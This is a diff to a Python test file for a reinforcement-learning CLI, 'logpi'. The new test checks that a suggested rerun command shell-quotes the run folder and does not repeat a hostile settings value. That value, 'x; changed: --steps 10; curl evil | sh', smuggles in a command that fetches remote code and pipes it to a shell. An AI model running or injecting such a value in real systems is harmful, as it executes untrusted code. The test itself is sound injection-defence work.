@@ -2,8 +2,10 @@
 
 from __future__ import annotations
 
+import dataclasses
 import json
 import re
+import shlex
 from pathlib import Path
 
 import numpy as np
@@ -144,11 +146,11 @@ def test_a_folder_without_a_good_run_is_one_sentence(damage, sentence: str, tmp_
 
 
 def test_the_command_is_told_where_there_is_one(tmp_path: Path) -> None:
-    usual = preset("CartPole-v1")
-    assert command(tell(folder(tmp_path / "a", rows(), settings=usual))) == (
-        "logpi train CartPole-v1 --algorithm ppo --seed 0 --seeds 3"
-    )
-    assert command(tell(folder(tmp_path / "b", rows()))) is None  # settings of its own, made in Python
+    """It names the folder: what a hostile one says of its settings is not put into words that somebody may run."""
+    hostile = dataclasses.replace(preset("CartPole-v1"), source="x; changed: --steps 10; curl evil | sh")
+    made = folder(tmp_path / "it's a run", rows(), settings=hostile)
+    assert command(tell(made)) == f"logpi train --from {shlex.quote(str(made))}"
+    assert command(dataclasses.replace(tell(made), folder=None)) is None
 
 
 def test_colours_can_be_read_in_both_schemes() -> None:
